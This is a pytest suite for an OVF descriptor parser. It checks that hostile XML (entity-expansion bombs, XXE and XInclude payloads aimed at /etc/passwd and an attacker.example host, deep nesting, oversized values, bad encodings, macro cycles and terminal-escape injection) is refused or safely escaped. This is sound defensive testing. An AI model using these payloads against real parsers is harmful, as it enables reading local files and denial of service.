"""Hostile descriptors: each ends in a documented ovfmodel error, quickly, without network.

Bounded time and memory is shown by these tests finishing (the suite is short); nothing here
asserts wall-clock times, which would flake. Every test runs with the network disabled and in
an empty working directory that must still be empty afterwards.

XInclude decision: `parse` never processes XInclude. An `xi:include` element is kept as an inert
vendor element (written back verbatim) and reported in `OvfDocument.problems`; with
`strict=True` it raises OvfStrictError saying XInclude is not supported.
"""

from __future__ import annotations

import io
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ovfmodel import OvfDocument, OvfError, OvfParseError, OvfStrictError, parse, serialize, write

NS2 = "http://schemas.dmtf.org/ovf/envelope/2"
NS1 = "http://schemas.dmtf.org/ovf/envelope/1"
XI = "http://www.w3.org/2001/XInclude"
DATA = Path(__file__).parent / "data"


def envelope(body: str = "", attrs: str = "", ns: str = NS2) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<Envelope xmlns="{ns}"{attrs}>'
        f"<References/>{body}</Envelope>\n"
    ).encode()


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any attempt to resolve a name or open a connection fails the test."""

    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError(f"network access attempted: {args!r}")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


@pytest.fixture(autouse=True)
def empty_cwd(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Run in an empty directory and check that nothing was written into it."""
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    yield work
    assert list(work.iterdir()) == [], "a hostile input caused a file to be written"


def refused(data: bytes | str, *, strict: bool = False) -> OvfParseError:
    with pytest.raises(OvfParseError) as info:
        parse(data, strict=strict)
    return info.value


# ------------------------------------------------------------------------- DTDs and entities

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE Envelope [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + f']>\n<Envelope xmlns="{NS2}"><References/>&lol9;</Envelope>\n'
)

QUADRATIC = (
    f'<?xml version="1.0"?>\n<!DOCTYPE Envelope [<!ENTITY a "{"x" * 50_000}">]>\n'
    f'<Envelope xmlns="{NS2}"><References/><AnnotationSection><Info>'
    + "&a;" * 50_000
    + "</Info><Annotation>x</Annotation></AnnotationSection></Envelope>\n"
)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(QUADRATIC, id="quadratic-blowup"),
        pytest.param(
            '<?xml version="1.0"?>\n<!DOCTYPE Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            f'<Envelope xmlns="{NS2}"><References/><x:a xmlns:x="urn:x">&x;</x:a></Envelope>',
            id="external-entity-file",
        ),
        pytest.param(
            '<?xml version="1.0"?>\n<!DOCTYPE Envelope [<!ENTITY x SYSTEM '
            '"http://attacker.example/x">]>'
            f'<Envelope xmlns="{NS2}"><References/><x:a xmlns:x="urn:x">&x;</x:a></Envelope>',
            id="external-entity-http",
        ),
        pytest.param(
            '<?xml version="1.0"?>\n<!DOCTYPE Envelope SYSTEM "http://attacker.example/ovf.dtd">'
            f'<Envelope xmlns="{NS2}"><References/></Envelope>',
            id="external-dtd-http",
        ),
        pytest.param(
            '<?xml version="1.0"?>\n<!DOCTYPE Envelope SYSTEM "file:///etc/passwd">'
            f'<Envelope xmlns="{NS2}"><References/></Envelope>',
            id="external-dtd-file",
        ),
        pytest.param(
            '<?xml version="1.0"?>\n<!DOCTYPE Envelope [<!ENTITY % p SYSTEM '
            '"http://attacker.example/p.dtd"> %p;]>'
            f'<Envelope xmlns="{NS2}"><References/></Envelope>',
            id="parameter-entity",
        ),
        pytest.param(
            f'<!DOCTYPE Envelope><Envelope xmlns="{NS2}"><References/></Envelope>',
            id="bare-doctype",
        ),
    ],
)
@pytest.mark.parametrize("strict", [False, True])
def test_doctypes_and_entities_are_refused(text: str, strict: bool) -> None:
    error = refused(text.encode(), strict=strict)
    assert "DOCTYPE" in str(error) or "ntit" in str(error)  # refused, whatever libxml2 reached
    assert "root:x:0:0" not in str(error)  # /etc/passwd never read


def test_billion_laughs_as_text_and_file(tmp_path: Path) -> None:
    refused(BILLION_LAUGHS)
    path = tmp_path / "laughs.ovf"
    path.write_text(BILLION_LAUGHS)
    with pytest.raises(OvfParseError):
        parse(path)
    with pytest.raises(OvfParseError):
        parse(io.BytesIO(BILLION_LAUGHS.encode()))


def test_undeclared_entity_reference_is_refused() -> None:
    error = refused(envelope("<x:a xmlns:x='urn:x'>&lol;</x:a>"))
    assert "lol" in str(error)


# ------------------------------------------------------------------------------- XInclude

XINCLUDE_BODY = (
    f'<xi:include xmlns:xi="{XI}" href="file:///etc/passwd" parse="text"/>'
    f'<xi:include xmlns:xi="{XI}" href="http://attacker.example/s.xml"/>'
)


def test_xinclude_is_inert_and_reported_leniently() -> None:
    data = envelope(XINCLUDE_BODY)
    doc = parse(data)
    messages = [message for _, message in doc.problems]
    assert sum("XInclude is not supported" in m for m in messages) == 2
    out = serialize(doc)
    assert b"root:x:0:0" not in out
    assert out.count(b"xi:include") == 2  # kept verbatim, never expanded
    assert parse(out) == doc


def test_xinclude_is_refused_strictly() -> None:
    with pytest.raises(OvfStrictError, match="XInclude is not supported") as err:
        parse(envelope(XINCLUDE_BODY), strict=True)
    assert err.value.line is not None and err.value.column is not None


def test_xinclude_deep_inside_vendor_content_is_reported() -> None:
    body = f'<v:Ext xmlns:v="urn:v"><v:a><xi:include xmlns:xi="{XI}" href="/etc/passwd"/></v:a></v:Ext>'
    doc = parse(envelope(body))
    assert any("XInclude" in m for _, m in doc.problems)
    with pytest.raises(OvfStrictError):
        parse(envelope(body), strict=True)


# ---------------------------------------------------------------------------- size limits


def test_deeply_nested_elements() -> None:
    depth = 100_000
    data = (
        f'<Envelope xmlns="{NS2}"><References/>'.encode()
        + b"<a>" * depth
        + b"</a>" * depth
        + b"</Envelope>"
    )
    error = refused(data)
    assert "nests deeper than the parser's limit of 256 levels" in str(error)
    assert "XML_PARSE_HUGE" not in str(error)  # libxml2's C option: nothing a user can set


def test_too_deep_as_the_cli_says_it(tmp_path: Path) -> None:
    deep = tmp_path / "deep.ovf"
    deep.write_bytes(
        f'<Envelope xmlns="{NS2}">'.encode() + b"<a>" * 300 + b"</a>" * 300 + b"</Envelope>"
    )
    done = subprocess.run(
        [sys.executable, "-m", "ovfmodel", "validate", str(deep)], capture_output=True, text=True
    )
    assert done.returncode == 2  # unreadable input
    assert "OVF001: the document nests deeper than the parser's limit of 256 levels" in done.stdout
    assert "XML_PARSE_HUGE" not in done.stdout + done.stderr


def test_deeply_nested_vendor_elements() -> None:
    depth = 100_000
    data = (
        f'<Envelope xmlns="{NS2}"><References/><v:a xmlns:v="urn:v">'.encode()
        + b"<v:a>" * depth
        + b"</v:a>" * depth
        + b"</v:a></Envelope>"
    )
    refused(data)


def test_nesting_just_within_the_limit_round_trips() -> None:
    """What libxml2 accepts must not exhaust Python's stack in the binder or the writer."""
    depth = 240
    data = (
        f'<Envelope xmlns="{NS2}"><References/><v:a xmlns:v="urn:v">'.encode()
        + b"<v:a>" * depth
        + b"x"
        + b"</v:a>" * depth
        + b"</v:a></Envelope>"
    )
    doc = parse(data)
    out = serialize(doc)
    # compared as text: dataclass equality of a 240-deep vendor tree recurses ~4 frames a level
    assert serialize(parse(out)) == out


def _vendor_tree(depth: int) -> bytes:
    return (
        f'<Envelope xmlns="{NS2}"><References/><v:a xmlns:v="urn:v">'.encode()
        + b"<v:a>" * depth
        + b"x"
        + b"</v:a>" * depth
        + b"</v:a></Envelope>"
    )


def test_documents_with_the_deepest_vendor_trees_compare_equal() -> None:
    refused(_vendor_tree(255))  # 254 is the deepest libxml2 accepts: 256 levels in all
    doc = parse(_vendor_tree(254))
    again = parse(serialize(doc))
    assert doc == again
    # and still tells them apart: the innermost text differs
    other = parse(_vendor_tree(254).replace(b">x<", b">y<"))
    assert doc != other


def test_50mb_attribute_value() -> None:
    data = envelope(attrs=' foo="' + "a" * 50_000_000 + '"')
    error = refused(data)
    assert "safety limits" in str(error)


def test_50mb_text_value() -> None:
    body = "<AnnotationSection><Info>" + "a" * 50_000_000 + "</Info></AnnotationSection>"
    refused(envelope(body))


def test_many_attributes() -> None:
    attrs = "".join(f' a{i}="{i}"' for i in range(20_000))
    # well-formed and within limits: accepted, kept, and written back
    doc = parse(envelope(attrs=attrs))
    assert len(doc.envelope.any_attributes) == 20_000


def test_huge_path_like_string_is_a_parse_error() -> None:
    with pytest.raises(OvfParseError):
        parse("x" * 100_000)


def test_path_with_nul_is_a_parse_error() -> None:
    with pytest.raises(OvfParseError):
        parse("descriptor\x00.ovf")


# ---------------------------------------------------------------------------- encodings


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            envelope("<x:a xmlns:x='urn:x'>\xff\xfe</x:a>").replace(b"\xc3\xbf", b"\xff"),
            id="invalid-utf8-lead",
        ),
        pytest.param(
            envelope("").replace(b"<References/>", b"<References/>\xc3"),
            id="truncated-utf8-sequence",
        ),
        pytest.param(
            envelope("").replace(b"<References/>", b"<References/>\xed\xa0\x80"),
            id="utf8-encoded-surrogate",
        ),
        pytest.param(
            envelope("").replace(b"<References/>", b"<References/>\xc0\xaf"), id="overlong-utf8"
        ),
        pytest.param(
            envelope("<x:a xmlns:x='urn:x'>caf\u00e9</x:a>").replace(b"\xc3\xa9", b"\xe9"),
            id="latin1-labelled-utf8",
        ),
        pytest.param(
            envelope("").replace(b'encoding="UTF-8"', b'encoding="UTF-16"'),
            id="utf8-labelled-utf16",
        ),
        pytest.param(
            envelope("").replace(b'encoding="UTF-8"', b'encoding="X-NO-SUCH"'),
            id="unknown-encoding",
        ),
        pytest.param(
            envelope("").replace(b"<References/>", b"<References/>\x01"), id="control-character"
        ),
        pytest.param(
            envelope("").replace(b"<References/>", b"<References/>&#0;"),
            id="nul-character-reference",
        ),
    ],
)
def test_bad_encodings(data: bytes) -> None:
    refused(data)


def test_lone_surrogate_in_text_source() -> None:
    with pytest.raises(OvfParseError):
        parse(envelope("").decode() + "\ud800")


def test_correctly_labelled_utf16_is_read() -> None:
    text = envelope("").decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    doc = parse(text.encode("utf-16"))
    assert isinstance(doc, OvfDocument)
    assert parse(serialize(doc)) == doc


# ------------------------------------------------------------------------ not OVF at all


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"<html><body/></html>", id="html"),
        pytest.param(b'<Envelope xmlns="urn:not-ovf"/>', id="foreign-namespace"),
        pytest.param(b"<Envelope/>", id="no-namespace"),
        pytest.param(f'<VirtualSystem xmlns="{NS2}"/>'.encode(), id="ovf-but-not-envelope"),
        pytest.param(f'<Envelope xmlns="{NS2}/"/>'.encode(), id="namespace-typo"),
    ],
)
def test_wrong_root_element(data: bytes) -> None:
    error = refused(data)
    assert "not an OVF Envelope" in str(error)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"   \n\t ", id="blank"),
        pytest.param(b"\x00" * 64, id="nul-bytes"),
        pytest.param(bytes(range(256)) * 16, id="all-bytes"),
        pytest.param(b"\x1f\x8b\x08\x00" + bytes(200), id="gzip-magic"),
        pytest.param(b"PK\x03\x04" + bytes(200), id="zip-magic"),
        pytest.param(b"\xef\xbb\xbf", id="bom-only"),
        pytest.param(b"<", id="lt"),
        pytest.param(b"<?xml", id="declaration-start"),
        pytest.param(b"<?xml version='1.0'?>", id="declaration-only"),
        pytest.param(b"<!-- c -->", id="comment-only"),
        pytest.param(b"<a></b>", id="mismatched-tags"),
        pytest.param(b"<a/><b/>", id="two-roots"),
    ],
)
def test_binary_garbage_and_fragments(data: bytes) -> None:
    refused(data)


@pytest.mark.parametrize("corpus", sorted(p.name for p in DATA.glob("*.ovf")))
def test_truncated_corpus_files(corpus: str) -> None:
    data = (DATA / corpus).read_bytes()
    n = len(data)
    cuts = sorted({1, 2, 10, n // 7, n // 3, n // 2, 2 * n // 3, n - 20, n - 3})
    for cut in cuts:
        if 0 < cut < n:
            with pytest.raises(OvfParseError):
                parse(data[:cut])


def test_file_object_in_text_mode() -> None:
    with pytest.raises(OvfParseError):
        parse(io.StringIO(envelope("").decode()))  # type: ignore[arg-type]


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(OvfParseError):
        parse(tmp_path / "missing.ovf")


def test_directory_instead_of_file(tmp_path: Path) -> None:
    with pytest.raises(OvfParseError):
        parse(tmp_path)


# --------------------------------------------------------------------- writing stays in place


def test_write_touches_only_its_target(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    doc = parse(envelope(XINCLUDE_BODY))
    target = out / "descriptor.ovf"
    write(doc, target)
    assert sorted(p.name for p in out.iterdir()) == ["descriptor.ovf"]
    assert parse(target) == doc


def test_every_error_is_an_ovf_error() -> None:
    assert issubclass(OvfParseError, OvfError)
    assert issubclass(OvfStrictError, OvfParseError)


# ------------------------------------------------- issue 11: bounded cost on hostile input
# Items 11 (parsing linear in input size) and 13 (whatever parses serializes). Each full-size
# input here took from 50 s to minutes before the fix; the tests check results, never times
# (tools/bench_hostile.py prints the figures).


class _CountingBytes(bytes):
    """Bytes that count how many bytes the scanner's searches look at."""

    examined = 0

    def rfind(self, sub: Any, start: Any = None, end: Any = None) -> int:
        _CountingBytes.examined += (len(self) if end is None else end) - (start or 0)
        return super().rfind(sub, start, end)

    def count(self, sub: Any, start: Any = None, end: Any = None) -> int:
        _CountingBytes.examined += max((len(self) if end is None else end) - (start or 0), 0)
        return super().count(sub, start, end)


def _xmlns_in_text(times: int) -> bytes:
    return envelope('<v:a xmlns:v="urn:v">' + "xmlns\n" * times + "</v:a>")


def test_declaration_scan_looks_at_each_byte_a_bounded_number_of_times() -> None:
    from ovfmodel.starttags import declared_tags

    for times in (1_000, 16_000):
        data = _CountingBytes(_xmlns_in_text(times))
        _CountingBytes.examined = 0
        tags = declared_tags(data)
        assert [t.qname for t in tags] == [b"Envelope", b"v:a"]
        assert _CountingBytes.examined <= 3 * len(data)  # was quadratic: ~len * times / 2


def test_xmlns_160000_times_in_text_round_trips() -> None:
    data = _xmlns_in_text(160_000)  # 960 KB: 52 s before the fix
    assert len(data) > 950_000
    assert serialize(parse(data)) == data


def test_200000_namespaced_attributes_round_trip() -> None:
    attrs = ' xmlns:v="urn:v"' + "".join(f' v:a{i}="{i}"' for i in range(200_000))
    data = envelope(attrs=attrs)  # 3.8 MB: 269 s before the fix (lxml's attrib.items())
    doc = parse(data)
    assert len(doc.envelope.any_attributes) == 200_000
    assert doc.envelope.any_attributes["{urn:v}a199999"] == "199999"
    assert serialize(doc) == data


def test_many_attributes_on_vendor_and_unexpected_elements() -> None:
    attrs = "".join(f' v:a{i}="{i}"' for i in range(50_000))
    body = f'<v:x xmlns:v="urn:v"{attrs}/>'  # vendor content: an AnyElement
    extra = f'<Bogus xmlns:v="urn:v"{attrs}/>'  # unexpected OVF element: kept as lxml
    for data in (
        envelope(body),
        envelope(f"<NetworkSection><Info>n</Info>{extra}</NetworkSection>"),
    ):
        assert serialize(parse(data)) == data


def test_declarations_of_many_elements_on_one_line_keep_their_order() -> None:
    """The start tag of each element is found moving forward (it was searched back from the end
    of its line: quadratic on a one-line document, and the wrong tag for repeated names)."""
    systems = "".join(
        f'<p{i}:VirtualSystem xmlns:p{i}="{NS2}" p{i}:id="v{i}"><p{i}:Info>x</p{i}:Info>'
        f"</p{i}:VirtualSystem>"
        for i in range(30_000)
    )
    data = envelope(
        f'<VirtualSystemCollection ovf:id="c"><Info>i</Info>{systems}</VirtualSystemCollection>',
        attrs=f' xmlns:ovf="{NS2}"',
    )
    assert serialize(parse(data)) == data
    twice = envelope('<v:a b="1" xmlns:v="urn:v"/><v:a xmlns:v="urn:v" b="2"/>')
    assert serialize(parse(twice)) == twice


def _nested_collections(depth: int) -> bytes:
    return (
        f'<Envelope xmlns="{NS2}" xmlns:ovf="{NS2}"><References/>'
        + "".join(f'<VirtualSystemCollection ovf:id="c{i}"><Info>i</Info>' for i in range(depth))
        + '<VirtualSystem ovf:id="v"><Info>i</Info></VirtualSystem>'
        + "</VirtualSystemCollection>" * depth
        + "</Envelope>\n"
    ).encode()


def _at_depth(frames: int, call: Any) -> Any:
    return call() if frames == 0 else _at_depth(frames - 1, call)


@pytest.mark.parametrize("depth", [247, 253])
def test_deepest_collections_serialize(depth: int) -> None:
    data = _nested_collections(depth)
    doc = parse(data)
    assert serialize(doc) == data
    # also from a caller already deep in its own stack
    assert _at_depth(600, lambda: serialize(parse(data))) == data
    from ovfmodel import model

    assert len(model.collections(doc)) == depth


def test_deepest_collections_info_cli(tmp_path: Path) -> None:
    import subprocess
    import sys

    path = tmp_path / "deep.ovf"
    path.write_bytes(_nested_collections(253))
    run = subprocess.run(
        [sys.executable, "-m", "ovfmodel", "info", str(path)], capture_output=True, text=True
    )
    assert run.returncode == 0, run.stderr
    assert "round trip: lossless" in run.stdout
    assert "Collection c252" in run.stdout


def test_model_nested_beyond_any_parser_is_refused_not_a_recursion_error() -> None:
    from ovfmodel import ovf2
    from ovfmodel.depth import MAX_LEVELS

    doc = parse(_nested_collections(1))
    inner: Any = ovf2.VirtualSystem(id="v", info=ovf2.MsgType(value="i"))
    for i in range(MAX_LEVELS + 10):
        inner = ovf2.VirtualSystemCollection(
            id=f"c{i}", info=ovf2.MsgType(value="i"), content=[inner]
        )
    doc.envelope.content = inner
    with pytest.raises(OvfError, match="nests .* elements deep"):
        serialize(doc)


def _with_properties(props: list[tuple[str, str]]) -> bytes:
    body = "".join(f'<Property ovf:key="{k}" ovf:type="string" ovf:value="{v}"/>' for k, v in props)
    return (
        f'<Envelope xmlns="{NS1}" xmlns:ovf="{NS1}"><References/><VirtualSystem ovf:id="vm">'
        f"<Info>i</Info><ProductSection><Info>p</Info>{body}</ProductSection></VirtualSystem>"
        "</Envelope>"
    ).encode()


def _env_problems(props: list[tuple[str, str]]) -> list[str]:
    from ovfmodel.environment import EnvironmentValueError, environment_for

    with pytest.raises(EnvironmentValueError) as info:
        environment_for(parse(_with_properties(props)))
    return info.value.problems


def test_macro_referring_to_itself() -> None:
    assert _env_problems([("k", "${k}")]) == [
        "k (in vm): its macros lead back to itself (k -> k); break the cycle"
    ]


def test_macro_two_cycle_names_both_properties() -> None:
    problems = _env_problems([("a", "x${b}"), ("b", "${a}y"), ("c", "fine")])
    assert problems[0] == "a (in vm): its macros lead back to itself (a -> b -> a); break the cycle"
    assert problems[1].startswith("b (in vm): uses ${a}, which cannot be expanded (a: its macros")
    assert len(problems) == 2  # c is not affected


def test_macro_chain_of_2000_is_refused_by_depth() -> None:
    chain = [(f"p{i}", f"${{p{i + 1}}}") for i in range(2000)] + [("p2000", "end")]
    problems = _env_problems(chain)
    assert "macros nest more than 64 deep (p0 -> p1 -> ... -> p64)" in problems[0]
    assert all(len(p) < 300 for p in problems)  # no message grows with the chain


def test_macro_chain_within_the_depth_bound_expands() -> None:
    from ovfmodel.environment import environment_for, properties

    chain = [(f"p{i}", f"[{i}]${{p{i + 1}}}") for i in range(60)] + [("p60", "end")]
    env = environment_for(parse(_with_properties(chain)))
    assert properties(env)["p0"] == "".join(f"[{i}]" for i in range(60)) + "end"


def test_doubling_macros_stop_at_the_size_bound() -> None:
    doubling = [("d0", "x")] + [(f"d{i}", f"${{d{i - 1}}}${{d{i - 1}}}") for i in range(1, 36)]
    problems = _env_problems(doubling)  # 335 MB and 110 s before the fix
    assert problems[0] == (
        "d17 (in vm): expands to more than 65,536 characters; macros that repeat other macros "
        "grow exponentially"
    )
    assert len(problems) == 19  # d17 .. d35; d0 .. d16 expand (d16: 65,536 characters)


def test_many_large_expansions_stop_at_the_total_bound() -> None:
    props = [("big", "x" * 60_000)] + [(f"u{i}", "${big}") for i in range(2000)]
    problems = _env_problems(props)  # 120 MB of values otherwise
    assert any("add up to more than 4,194,304 characters" in p for p in problems)


def test_unresolved_and_unclosed_macros_stay_as_written() -> None:
    from ovfmodel.environment import environment_for, properties

    unresolved, unclosed = "${nope}" * 100_000, "${" * 200_000
    doc = parse(_with_properties([("u", unresolved), ("v", unclosed), ("w", "${u")]))
    found = properties(environment_for(doc))
    assert found == {"u": unresolved, "v": unclosed, "w": "${u"}


def test_env_cli_reports_a_macro_cycle(tmp_path: Path) -> None:
    import subprocess
    import sys

    path = tmp_path / "cycle.ovf"
    path.write_bytes(_with_properties([("a", "${b}"), ("b", "${a}")]))
    run = subprocess.run(
        [sys.executable, "-m", "ovfmodel", "env", str(path)], capture_output=True, text=True
    )
    assert run.returncode == 1
    assert "a (in vm): its macros lead back to itself (a -> b -> a)" in run.stderr
    assert "Traceback" not in run.stderr


def _cli(*args: str) -> Any:
    import subprocess
    import sys

    return subprocess.run(
        [sys.executable, "-m", "ovfmodel", *args], capture_output=True, text=True, timeout=60
    )


def test_a_device_is_refused_before_reading() -> None:
    error = refused_path("/dev/zero")  # read without bound before the fix (MemoryError)
    assert str(error).startswith("/dev/zero: it is a character device, not a file")


def refused_path(path: str | Path) -> OvfParseError:
    with pytest.raises(OvfParseError) as info:
        parse(Path(path))
    return info.value


def test_a_named_pipe_is_refused_without_waiting_for_a_writer(tmp_path: Path) -> None:
    import os
    import threading

    fifo = tmp_path / "pipe.ovf"
    os.mkfifo(fifo)
    outcome: list[BaseException] = []
    worker = threading.Thread(target=lambda: outcome.append(refused_path(fifo)), daemon=True)
    worker.start()
    worker.join(timeout=20)
    if worker.is_alive():  # opened for reading: blocked until a writer comes; release it
        with open(fifo, "wb"):
            pass
        worker.join()
        pytest.fail("parse waited on a named pipe")
    assert "is a named pipe, not a file" in str(outcome[0])


def test_directory_is_named_as_such(tmp_path: Path) -> None:
    message = str(refused_path(tmp_path))
    assert "is a directory, not a file" in message
    assert message.count(str(tmp_path)) == 1  # the path is named once


def test_a_missing_file_is_named_once(tmp_path: Path) -> None:
    missing = tmp_path / "missing.xml"
    for command in (["env", "--read"], ["info"], ["validate"]):
        run = _cli(*command, str(missing))
        assert run.returncode == 2, (command, run.stderr)
        # validate reports it as diagnostic OVF001 on stdout, the others on stderr
        assert (run.stdout + run.stderr).count(str(missing)) == 1, (command, run.stderr)


@pytest.mark.parametrize("command", [["info"], ["validate"], ["env", "--read"], ["env"]])
def test_cli_refuses_a_device(command: list[str]) -> None:
    run = _cli(*command, "/dev/zero")
    assert run.returncode == 2
    assert "character device, not a file" in run.stderr + run.stdout
    assert "no such file" not in run.stderr + run.stdout
    assert "Traceback" not in run.stderr


def test_bounded_read_of_an_endless_stream() -> None:
    from ovfmodel.xmlsafe import MAX_DOCUMENT_BYTES, read_bounded

    class Endless(io.RawIOBase):
        def readable(self) -> bool:
            return True

        def readinto(self, buffer: Any) -> int:
            n = min(len(buffer), 4096)  # a pipe hands out a little at a time
            buffer[:n] = b"<" * n
            return n

    with pytest.raises(OvfParseError, match="larger than 1 MiB"):
        read_bounded(io.BufferedReader(Endless()), "<stdin>", limit=1024 * 1024)
    with pytest.raises(OvfParseError, match=f"larger than {MAX_DOCUMENT_BYTES >> 20} MiB"):
        parse(io.BufferedReader(Endless()))
    assert read_bounded(io.BytesIO(b"<a/>"), "<stdin>") == b"<a/>"


# ----------------------------------------------------- issue 11: containment and output (18, 19)

INJECTED_ENV = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<Environment xmlns="http://schemas.dmtf.org/ovf/environment/1" '
    'xmlns:oe="http://schemas.dmtf.org/ovf/environment/1" oe:id="vm"><PropertySection>'
    '<Property oe:key="hostname" oe:value="web&#10;admin.password=hunter2&#x9B;2J&#x202E;"/>'
    '<Property oe:key="x&#13;y" oe:value="1"/>'
    "</PropertySection></Environment>\n"
)


def test_env_read_text_cannot_forge_a_line(tmp_path: Path) -> None:
    path = tmp_path / "ovf-env.xml"
    path.write_text(INJECTED_ENV)
    run = _cli("env", "--read", str(path))
    assert run.returncode == 0, run.stderr
    assert run.stdout.splitlines() == [
        "hostname=web\\nadmin.password=hunter2\\x9b2J\\u202e",
        "x\\ry=1",
    ]


def test_env_read_json_is_exact_and_terminal_safe(tmp_path: Path) -> None:
    import json

    path = tmp_path / "ovf-env.xml"
    path.write_text(INJECTED_ENV)
    run = _cli("env", "--read", str(path), "--format", "json")
    assert run.returncode == 0, run.stderr
    assert "\x9b" not in run.stdout and "\u202e" not in run.stdout
    assert json.loads(run.stdout) == {
        "hostname": "web\nadmin.password=hunter2\x9b2J\u202e",
        "x\ry": "1",
    }


def test_env_refusals_cannot_forge_a_line(tmp_path: Path) -> None:
    path = tmp_path / "forged.ovf"
    path.write_bytes(_with_properties([("a&#10;OK: all fine", "${a&#10;OK: all fine}")]))
    run = _cli("env", str(path))
    assert run.returncode == 1
    assert "a\\nOK: all fine (in vm): its macros lead back to itself" in run.stderr
    assert not any(line.startswith("OK") for line in run.stderr.splitlines())


def test_info_escapes_descriptor_text(tmp_path: Path) -> None:
    path = tmp_path / "forged.ovf"
    path.write_bytes(
        envelope(attrs=f' xmlns:ovf="{NS2}"').replace(
            b"<References/>",
            b'<References><File ovf:id="f&#10;round trip: lossless" ovf:href="d&#x85;.vmdk"/>'
            b'</References><VirtualSystem ovf:id="vm"><Info>i</Info>'
            b"<Name>web&#x9B;2J</Name></VirtualSystem>",
        )
    )
    run = _cli("info", str(path))
    assert run.returncode == 0, run.stderr
    assert "    f\\nround trip: lossless: d\\x85.vmdk (size unknown)" in run.stdout
    assert "  VirtualSystem vm (web\\x9b2J)" in run.stdout
    assert sum(line.startswith("round trip") for line in run.stdout.splitlines()) == 1
    assert "\x85" not in run.stdout and "\x9b" not in run.stdout


def test_billion_laughs_message_says_amplification() -> None:
    error = refused(BILLION_LAUGHS)
    assert "entity amplification limit exceeded" in str(error)
    assert "not well-formed" not in str(error)


def test_thousands_of_digits_are_not_echoed() -> None:
    from ovfmodel.environment import PropertySpec, check_value

    digits = "9" * 5000
    data = envelope(
        f'<References><File ovf:id="f" ovf:href="a" ovf:size="{digits}"/></References>',
        attrs=f' xmlns:ovf="{NS2}"',
    ).replace(b"<References/>", b"", 1)
    with pytest.raises(OvfStrictError) as strict:
        parse(data, strict=True)
    assert "'9999999999999999999999999999999999999999…' (5,000 digits)" in str(strict.value)
    assert len(str(strict.value)) < 300
    spec = PropertySpec("n", "n", "uint64", None, True, False, None, "vm")
    value, why = check_value(spec, digits)  # int() refuses 4,300 digits: a ValueError before
    assert value is None and why is not None and "(5,000 digits) is out of range" in why
    assert len(why) < 200


def test_thousands_of_digits_are_not_echoed_by_schema_validation() -> None:
    from ovfmodel import schemas, validate

    try:
        schemas.schema_dir()
    except OvfError:
        pytest.skip("DMTF schemas not installed")
    data = envelope(
        f'<References><File ovf:id="f" ovf:href="a" ovf:size="{"9" * 5000}"/></References>',
        attrs=f' xmlns:ovf="{NS2}"',
    ).replace(b"<References/>", b"", 1)
    messages = [d.message for d in validate(data).diagnostics if d.code == "OVF901"]
    assert any("(5,000 digits) is not a valid value" in m for m in messages)
    assert all(len(m) < 1000 for m in messages)


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_without_bom_or_declaration_is_named(codec: str) -> None:
    text = envelope("").decode().split("\n", 1)[1]  # no declaration
    error = refused(text.encode(codec))
    assert "looks like UTF-16 without a byte order mark or an XML declaration" in str(error)
    labelled = envelope("").decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    assert isinstance(parse(labelled.encode(codec)), OvfDocument)  # a declaration is enough


# ----------------------------------------------------------- issue 11: concurrency (15, 16)


def _schema_errors(count: int, tag: str) -> bytes:
    files = "".join(
        f'<File ovf:id="f{i}" ovf:href="a{i}" ovf:size="x{tag}{i}"/>' for i in range(count)
    )
    return envelope(f"<References>{files}</References>", attrs=f' xmlns:ovf="{NS2}"').replace(
        b"<References/>", b"", 1
    )


def test_validate_from_threads_reports_what_it_reports_alone() -> None:
    """XML Schema errors were lost or duplicated (20 of 160 reports differed): threads shared
    the compiled schema's error log."""
    import threading

    from ovfmodel import schemas, validate

    try:
        schemas.schema_dir()
    except OvfError:
        pytest.skip("DMTF schemas not installed")
    texts = [_schema_errors(n, t) for n, t in ((50, "a"), (5, "b"), (200, "c"), (1, "d"))]
    alone = [validate(t).model_dump() for t in texts]
    # one error a bad size, and one for the Envelope without content
    counts = [sum(d["code"] == "OVF901" for d in r["diagnostics"]) for r in alone]
    assert counts == [51, 6, 201, 2]
    differing: list[int] = []

    def work(first: int) -> None:
        for j in range(20):
            k = (first + j) % len(texts)
            if validate(texts[k]).model_dump() != alone[k]:
                differing.append(k)

    threads = [threading.Thread(target=work, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert differing == []


# ----------------------------------------------------------- issue 11: data loss (7, 16)
# write(), `build -o` and `env -o` all write through ovfmodel.atomicfile: a unique temporary
# file created exclusively beside the target (never the fixed `.NAME.tmp` they used), renamed
# over it, removed on every failure.

ROOT = Path(__file__).resolve().parent.parent


def _run_cli(args: list[str], cwd: Path, **kwargs: Any) -> Any:
    import subprocess
    import sys

    return subprocess.run(
        [sys.executable, "-m", "ovfmodel", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        timeout=120,
        **kwargs,
    )


def _writers(tmp_path: Path) -> dict[str, Any]:
    """Each way ovfmodel writes a descriptor or environment into `out/` (name -> writer)."""
    descriptor = tmp_path / "in.ovf"
    descriptor.write_bytes(_with_properties([("a", "1")]))

